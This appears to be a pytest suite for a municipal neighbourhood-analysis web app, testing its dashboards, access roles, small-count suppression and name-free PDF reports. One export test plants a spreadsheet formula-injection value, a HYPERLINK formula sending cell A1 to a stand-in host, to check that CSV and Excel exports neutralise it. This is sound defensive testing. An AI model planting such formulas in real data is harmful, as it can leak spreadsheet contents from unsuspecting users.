"""The neighbourhood analysis on screen and on paper: the municipality's dashboard (map,
table, themes, months), a neighbourhood's page with quotes and attention points, and the
printable report made by the worker — its sections, suppressed small cells, no names.
Analysts see counts only; other roles nothing. Both paths (the real worker on PostgreSQL)."""

from __future__ import annotations

import io
import re
import time
from datetime import UTC, datetime, timedelta

import pytest
from pypdf import PdfReader
from sqlalchemy import select

from fieldwork.areas.models import Neighbourhood
from fieldwork.auth.models import User
from fieldwork.extensions import db
from fieldwork.reports.models import AttentionPoint, NeighbourhoodReport, Quote
from fieldwork.signals.models import Signal
from fieldwork.signals.services import create_signals
from tests.conftest import csrf_from, import_areas, login, make_user, post_form


def signal(app, name: str, theme: str, statsec: str = "36012A001") -> None:
    with app.app_context():
        filer = db.session.scalars(select(User).filter_by(role="coordinator")).first()
        create_signals(
            {
                "resident": {
                    "name": name,
                    "street": "Marktplaats",
                    "house_number": "1",
                    "postcode": "8890",
                    "birth_year": 1940,
                    "phone": "051 00 00 00",
                    "lat": None,
                    "lon": None,
                    "statsec": statsec,
                    "gemeente": "36012",
                    "deelgemeente": None,
                },
                "themes": [theme],
                "urgency": "normal",
                "note": "Geheime notitie over de bewoner",
                "consent": {"given": True, "how": "signed_strip", "reference": "F-1"},
            },
            filer,
            source="visit",
        )
        db.session.commit()


def wait_for_routing(app) -> None:

    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        with app.app_context():
            if db.session.scalar(select(Signal.id).where(Signal.routed_at.is_(None))) is None:
                break
        time.sleep(0.2)


def into_last_quarter(app) -> str:
    """Once the worker routed them: every signal dated in the last completed quarter (what
    the analyst is shown). Returns that quarter's code."""
    from fieldwork.reports.periods import last_completed_quarter
    from fieldwork.reports.rollups import rebuild

    wait_for_routing(app)
    with app.app_context():
        quarter = last_completed_quarter()
        moment = datetime.combine(
            quarter.start + timedelta(days=40), datetime.min.time(), tzinfo=UTC
        )
        for item in db.session.scalars(select(Signal)):
            item.created_at = moment
        rebuild()
        db.session.commit()
        return quarter.code


@pytest.fixture
def moorslede_findings(app, request):
    if app.config.get("REDIS_URL"):
        request.getfixturevalue("celery_worker")
    import_areas(app, "36012")
    make_user(app, "coordinator")
    make_user(app, "analyst")
    for number in range(6):
        signal(app, f"Bewoner Eenzaam {number}", "eenzaamheid")
    for number in range(2):
        signal(app, f"Bewoner Mobiel {number}", "mobiliteit")
    with app.app_context():
        return {n.name: n.id for n in db.session.scalars(select(Neighbourhood))}


def test_the_dashboard_shows_the_neighbourhoods_on_a_map(app, moorslede_findings):
    client = app.test_client()
    login(client, "coordinator@example.be")
    page = client.get("/buurtanalyse/", query_string={"gemeente": "36012"})
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert 'class="analysis-map"' in html
    for name in ("Moorslede", "Dadizele"):
        assert f"/buurtanalyse/{moorslede_findings[name]}" in html
    assert "Eenzaamheid" in html
    assert "Bewoner" not in html
    assert client.get("/buurtanalyse/", query_string={"measure": "nonsense"}).status_code == 200
    quarter = into_last_quarter(app)
    analyst = app.test_client()
    login(analyst, "analyst@example.be")
    seen = analyst.get("/buurtanalyse/").get_data(as_text=True)
    assert f'value="{quarter}" selected' in seen  # the last completed quarter
    assert "&lt;5" in seen  # two mobility signals: a small cell
    assert "Bewoner" not in seen


@pytest.mark.parametrize("role", ["volunteer", "contact_person", "referrer"])
def test_other_roles_do_not_see_the_analysis(app, moorslede_findings, role):
    make_user(app, role)
    client = app.test_client()
    login(client, f"{role}@example.be")
    moorslede = moorslede_findings["Moorslede"]
    assert client.get("/buurtanalyse/").status_code == 403
    assert client.get(f"/buurtanalyse/{moorslede}").status_code == 403


def test_quotes_and_attention_points_on_the_neighbourhood_page(app, moorslede_findings):
    moorslede = moorslede_findings["Moorslede"]
    page = f"/buurtanalyse/{moorslede}"
    client = app.test_client()
    login(client, "coordinator@example.be")
    added = post_form(
        client,
        page,
        {
            "text": "Sinds de bakker dicht is, zie ik niemand meer.",
            "theme": "eenzaamheid",
            "source": "visit",
        },
        action=f"{page}/citaten",
    )
    assert added.status_code == 302
    point = post_form(
        client,
        page,
        {
            "title": "Een ontmoetingsplek in het centrum",
            "text": "Zes signalen van eenzaamheid bij 80-plussers.",
            "themes": ["eenzaamheid"],
        },
        action=f"{page}/aandachtspunten",
    )
    assert point.status_code == 302
    empty = post_form(client, page, {"title": ""}, action=f"{page}/aandachtspunten")
    assert empty.status_code == 422
    html = client.get(page).get_data(as_text=True)
    assert "zie ik niemand meer" in html
    assert "Een ontmoetingsplek in het centrum" in html
    with app.app_context():
        stored = db.session.scalars(select(AttentionPoint)).one()
        assert stored.findings["themes"] == ["eenzaamheid"]
        quote_id = db.session.scalars(select(Quote.id)).one()
    analyst = app.test_client()
    login(analyst, "analyst@example.be")
    seen = analyst.get(page).get_data(as_text=True)
    assert "Een ontmoetingsplek in het centrum" in seen
    assert (
        analyst.post(
            f"{page}/citaten", data={"csrf_token": csrf_from(seen), "text": "x"}
        ).status_code
        == 403
    )
    removed = post_form(client, page, {}, action=f"{page}/weg/citaat/{quote_id}")
    assert removed.status_code == 302
    assert "zie ik niemand meer" not in client.get(page).get_data(as_text=True)
    assert post_form(client, page, {}, action=f"{page}/weg/niets/1").status_code == 404


def test_the_printed_report_has_its_sections_and_no_names(app, moorslede_findings):
    moorslede = moorslede_findings["Moorslede"]
    page = f"/buurtanalyse/{moorslede}"
    client = app.test_client()
    login(client, "coordinator@example.be")
    post_form(
        client,
        page,
        {"title": "Vervoer naar het dienstencentrum", "themes": ["mobiliteit"]},
        action=f"{page}/aandachtspunten",
    )
    made = post_form(client, page, {}, action=f"{page}/rapport")
    assert made.status_code == 302

    def done():
        with app.app_context():
            report = db.session.scalars(select(NeighbourhoodReport)).one()
            return report.id if report.status in ("done", "failed") else None

    deadline = time.monotonic() + 60
    while not (report_id := done()) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert report_id, "the worker did not make the report"
    response = client.get(f"/buurtanalyse/rapport/{report_id}.pdf")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(response.data)).pages)
    for section in (
        "Buurtanalyse Moorslede",
        "Cijfers",
        "Wat we hoorden",
        "Aandachtspunten",
        "Foto's",
        "Bronnen",
        "Vervoer naar het dienstencentrum",
    ):
        assert section in text, section
    assert "<5" in text  # two mobility signals: suppressed on paper too
    assert "Periode: alles van " in text  # the cover says what the figures cover
    assert "Bewoner" not in text
    assert "Geheime notitie" not in text
    assert client.get("/buurtanalyse/rapport/99999.pdf").status_code == 404


def test_asking_again_while_a_report_is_being_made_makes_no_second_one(app, moorslede_findings):
    moorslede = moorslede_findings["Moorslede"]
    page = f"/buurtanalyse/{moorslede}"
    client = app.test_client()
    login(client, "coordinator@example.be")
    with app.app_context():
        coordinator = db.session.scalar(select(User).filter_by(email="coordinator@example.be"))
        db.session.add(
            NeighbourhoodReport(neighbourhood_id=moorslede, requested_by_id=coordinator.id)
        )
        db.session.commit()

    def reports() -> int:
        with app.app_context():
            return len(db.session.scalars(select(NeighbourhoodReport)).all())

    again = post_form(client, page, {}, action=f"{page}/rapport")  # a double tap, a second click
    assert again.status_code == 302
    assert "Er wordt al een rapport gemaakt" in client.get(page).get_data(as_text=True)
    assert reports() == 1
    with app.app_context():  # one left pending for longer was lost (a worker killed mid-render)
        report = db.session.scalars(select(NeighbourhoodReport)).one()
        report.created_at = datetime.now(UTC) - timedelta(minutes=11)
        db.session.commit()
    assert post_form(client, page, {}, action=f"{page}/rapport").status_code == 302
    assert reports() == 2


def test_the_dashboard_shows_imported_indicators_beside_the_field(app, moorslede_findings):
    from fieldwork.reports.indicators import load_demo_indicators

    with app.app_context():
        load_demo_indicators()
        db.session.commit()
    client = app.test_client()
    login(client, "coordinator@example.be")
    html = client.get(
        "/buurtanalyse/", query_string={"gemeente": "36012", "measure": "indicator:share_65plus"}
    ).get_data(as_text=True)
    assert "Aandeel 65-plussers (2024)" in html
    assert "selected>Aandeel 65-plussers (2024)" in html  # the map shows this measure
    assert "shade-5" in html  # the highest share is the darkest
    assert "Signalen per 100 inwoners 65+" in html


def test_an_analyst_cannot_subtract_a_small_neighbourhood_from_the_dashboard(app):
    """6 + 5 signals in Moorslede, 3 in Dadizele: Dadizele is '<5', and no other number on
    the analyst's dashboard (themes, months) adds up to undo it."""
    import re

    import_areas(app, "36012")
    make_user(app, "coordinator")
    make_user(app, "analyst")
    for number in range(6):
        signal(app, f"A{number}", "eenzaamheid")
    for number in range(5):
        signal(app, f"B{number}", "mobiliteit")
    for number in range(3):
        signal(app, f"C{number}", "eenzaamheid", statsec="36012B001")
    into_last_quarter(app)
    client = app.test_client()
    login(client, "analyst@example.be")
    html = client.get("/buurtanalyse/").get_data(as_text=True)
    rows = dict(
        re.findall(
            r'/buurtanalyse/\d+(?:\?[^"]*)?">([^<]+)</a></td>\s*'
            r"<td>[^<]*</td><td>([^<]*)</td>",
            html,
        )
    )
    assert rows["Dadizele"] == "&lt;5"
    themes = [v for v in re.findall(r'class="bar-value">([^<]+)<', html)]
    shown_sum = sum(int(v) for v in themes if v.isdigit())
    moorslede = rows["Moorslede"]
    assert not (
        moorslede.isdigit() and all(v.isdigit() for v in themes) and shown_sum - int(moorslede) == 3
    )
    assert "Signalen per maand" not in html  # months would add up with the neighbourhoods


def test_exports_never_hand_excel_a_formula(app, moorslede_findings):
    from openpyxl import load_workbook

    from tests.conftest import api_token, bearer

    with app.app_context():
        hood = db.session.get_one(Neighbourhood, moorslede_findings["Moorslede"])
        hood.name = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
        db.session.commit()
    token = api_token(app.test_client(), "coordinator@example.be")
    client = app.test_client()
    csv_text = client.get(
        "/api/v1/exports/signals.csv", headers=bearer(token), query_string={"gemeente": "36012"}
    ).get_data(as_text=True)
    assert "'=HYPERLINK" in csv_text
    assert ";=HYPERLINK" not in csv_text
    xlsx = client.get(
        "/api/v1/exports/signals.xlsx", headers=bearer(token), query_string={"gemeente": "36012"}
    ).data
    sheet = load_workbook(io.BytesIO(xlsx)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    far = client.get(
        "/api/v1/neighbourhoods/1/summary",
        headers=bearer(token),
        query_string={"until": "9999-12-31"},
    )
    assert far.status_code == 422


def _figure(html: str, heading: str) -> str:
    match = re.search(rf"<th>{re.escape(heading)}</th><td>([^<]*)</td>", html)
    assert match, heading
    return match[1].strip()


def test_figures_for_a_month_a_quarter_or_a_campaign(app, moorslede_findings):
    """The period menu: a calendar month or quarter, or the days a visit round ran; the
    quarter table comes from the rollups (rebuilt after two signals were dated back)."""
    from fieldwork.areas.models import Municipality
    from fieldwork.db import local_today, utcnow
    from fieldwork.reports import rollups
    from fieldwork.visits.models import VisitRound

    today = local_today()
    wait_for_routing(app)  # the worker routes (and counts) the signals first
    with app.app_context():
        for old in db.session.scalars(select(Signal).where(Signal.theme == "mobiliteit")):
            old.created_at = utcnow() - timedelta(days=100)
        municipality = db.session.scalar(select(Municipality))
        visit_round = VisitRound(
            municipality_id=municipality.id,
            name="Najaarsronde",
            starts_on=today - timedelta(days=110),
            ends_on=today - timedelta(days=90),
        )
        db.session.add(visit_round)
        db.session.commit()
        round_id = visit_round.id
        assert rollups.rebuild() > 0  # the two signals moved to an earlier month
        db.session.commit()
    moorslede = moorslede_findings["Moorslede"]
    client = app.test_client()
    login(client, "coordinator@example.be")
    signals_row = "Signalen"
    page = client.get(f"/buurtanalyse/{moorslede}", query_string={"periode": f"{today:%Y-%m}"})
    assert page.status_code == 200
    assert _figure(page.get_data(as_text=True), signals_row) == "6"
    html = client.get(
        f"/buurtanalyse/{moorslede}", query_string={"periode": f"ronde-{round_id}"}
    ).get_data(as_text=True)
    assert _figure(html, signals_row) == "2"
    assert "Najaarsronde" in html
    html = client.get(f"/buurtanalyse/{moorslede}").get_data(as_text=True)
    assert _figure(html, signals_row) == "8"
    quarters = re.findall(
        r"<tr><td><a href=\"[^\"]*periode=(\d{4}-Q\d)\">[^<]*</a></td>\s*"
        r"((?:<td>\d+</td>){9})</tr>",
        html,
    )
    assert len(quarters) == 4
    signals_per_quarter = [int(re.findall(r"\d+", cells)[5]) for _code, cells in quarters]
    assert signals_per_quarter[0] == 6
    assert sum(signals_per_quarter[1:]) == 2
    dashboard = client.get(
        "/buurtanalyse/", query_string={"gemeente": "36012", "periode": f"ronde-{round_id}"}
    ).get_data(as_text=True)
    assert f'value="ronde-{round_id}" selected' in dashboard
    assert (
        client.get(f"/buurtanalyse/{moorslede}", query_string={"periode": "2026-13"}).status_code
        == 200
    )  # no such period: everything, and a message
    # the analyst: completed quarters only; anything else shows the last one, and says so
    from fieldwork.reports.periods import last_completed_quarter

    with app.app_context():
        last = last_completed_quarter().code
    running = f"{today.year}-Q{(today.month - 1) // 3 + 1}"
    analyst = app.test_client()
    login(analyst, "analyst@example.be")
    for code in (
        f"ronde-{round_id}",
        "2026-13",
        "ronde-999999",
        "gisteren",
        "",
        f"{today:%Y-%m}",
        running,
        str(today.year),
    ):
        seen = analyst.get(f"/buurtanalyse/{moorslede}", query_string={"periode": code})
        assert seen.status_code == 200
        text = seen.get_data(as_text=True)
        assert f'value="{last}" selected' in text, code
        assert ('class="flash flash-error"' in text) == bool(code)
        assert 'value="ronde-' not in text  # no campaign windows
        assert f'value="{running}"' not in text  # no period still running
        assert 'value=""' not in text  # not everything so far
        assert "Per kwartaal" not in text


def test_an_attention_point_links_indicators_and_photos(app, moorslede_findings):
    """Besides themes, a point may rest on imported indicators and approved photos of the
    neighbourhood — not on another neighbourhood's photo or an indicator never imported.
    The report names them, but a photo without report consent stays out of it."""
    from fieldwork.areas.models import Municipality
    from fieldwork.db import local_today
    from fieldwork.photos.models import Photo, PhotoAssignment
    from fieldwork.reports.indicators import load_demo_indicators

    moorslede, dadizele = moorslede_findings["Moorslede"], moorslede_findings["Dadizele"]
    with app.app_context():
        load_demo_indicators()
        municipality = db.session.scalar(select(Municipality))
        assignment = PhotoAssignment(
            municipality_id=municipality.id,
            title="Foto's",
            prompts=[{"prompt": "Waar is het gezellig?"}],
            starts_on=local_today(),
            ends_on=local_today(),
            token="t" * 32,
        )
        db.session.add(assignment)
        db.session.flush()
        photos = {}
        for name, hood, consent in (
            ("bankje", moorslede, "report"),
            ("plein", moorslede, "analysis"),
            ("elders", dadizele, "report"),
        ):
            photo = Photo(
                assignment_id=assignment.id,
                prompt="Waar is het gezellig?",
                neighbourhood_id=hood,
                caption=f"Het {name}",
                consent=consent,
                sha256=name.ljust(64, "0"),
                status="approved",
            )
            db.session.add(photo)
            db.session.flush()
            photos[name] = photo.id
        db.session.commit()
    page = f"/buurtanalyse/{moorslede}"
    client = app.test_client()
    login(client, "coordinator@example.be")
    html = client.get(page).get_data(as_text=True)
    assert "Aandeel 80-plussers" in html  # offered: the imported indicators
    assert "Het bankje" in html
    assert "Het elders" not in html  # another neighbourhood's photo is not offered
    for wrong in ({"photos": [str(photos["elders"])]}, {"indicators": ["made_up"]}):
        refused = post_form(
            client, page, {"title": "Iets", **wrong}, action=f"{page}/aandachtspunten"
        )
        assert refused.status_code == 422
    point = post_form(
        client,
        page,
        {
            "title": "Zitbanken langs de wandelroute",
            "themes": ["mobiliteit"],
            "indicators": ["share_80plus"],
            "photos": [str(photos["bankje"]), str(photos["plein"])],
        },
        action=f"{page}/aandachtspunten",
    )
    assert point.status_code == 302
    with app.app_context():
        stored = db.session.scalars(select(AttentionPoint)).one()
        assert stored.findings == {
            "themes": ["mobiliteit"],
            "indicators": ["share_80plus"],
            "photos": sorted([photos["bankje"], photos["plein"]]),
        }
    html = client.get(page).get_data(as_text=True)
    based_on = re.search(r"Gebaseerd op: ([^<]*)</small>", html)
    assert based_on
    for words in ("Mobiliteit", "Aandeel 80-plussers", "Het bankje", "Het plein"):
        assert words in based_on[1], words
    post_form(client, page, {}, action=f"{page}/rapport")
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        with app.app_context():
            report = db.session.scalars(select(NeighbourhoodReport)).one()
            if report.status in ("done", "failed"):
                break
        time.sleep(0.2)
    assert report.status == "done", report.error
    pdf = client.get(f"/buurtanalyse/rapport/{report.id}.pdf")
    text = " ".join(
        " ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.data)).pages).split()
    )
    assert "Aandeel 80-plussers" in text
    assert "Het bankje" in text
    assert "Het plein" not in text  # consent for the analysis, not for the report


def test_a_quote_or_an_attention_point_sent_twice_is_added_once(app, moorslede_findings):
    from fieldwork.reports.models import AttentionPoint, Quote
    from tests.conftest import post_form_twice

    page = f"/buurtanalyse/{moorslede_findings['Moorslede']}"
    client = app.test_client()
    login(client, "coordinator@example.be")
    quote = {"text": "Ik zie nooit iemand.", "theme": "eenzaamheid", "source": "visit"}
    assert post_form_twice(client, page, quote, action=f"{page}/citaten") == [302, 302]
    point = {"title": "Eenzaamheid bij 80+", "text": "Uit de bezoeken."}
    assert post_form_twice(client, page, point, action=f"{page}/aandachtspunten") == [302, 302]
    with app.app_context():
        quotes = db.session.scalars(select(Quote.text)).all()
        points = db.session.scalars(select(AttentionPoint.title)).all()
    assert quotes.count("Ik zie nooit iemand.") == 1
    assert points.count("Eenzaamheid bij 80+") == 1


def test_a_fix_up_id_that_fits_no_column_is_a_404(app, moorslede_findings):
    client = app.test_client()
    login(client, "coordinator@example.be")
    page = client.get("/areas/fixups")
    assert page.status_code == 200
    answer = client.post(
        "/areas/fixups",
        data={
            "csrf_token": csrf_from(page.get_data(as_text=True)),
            "fixup_id": "99999999999999999999",
            "sector": "x",
        },
    )
    assert answer.status_code == 404
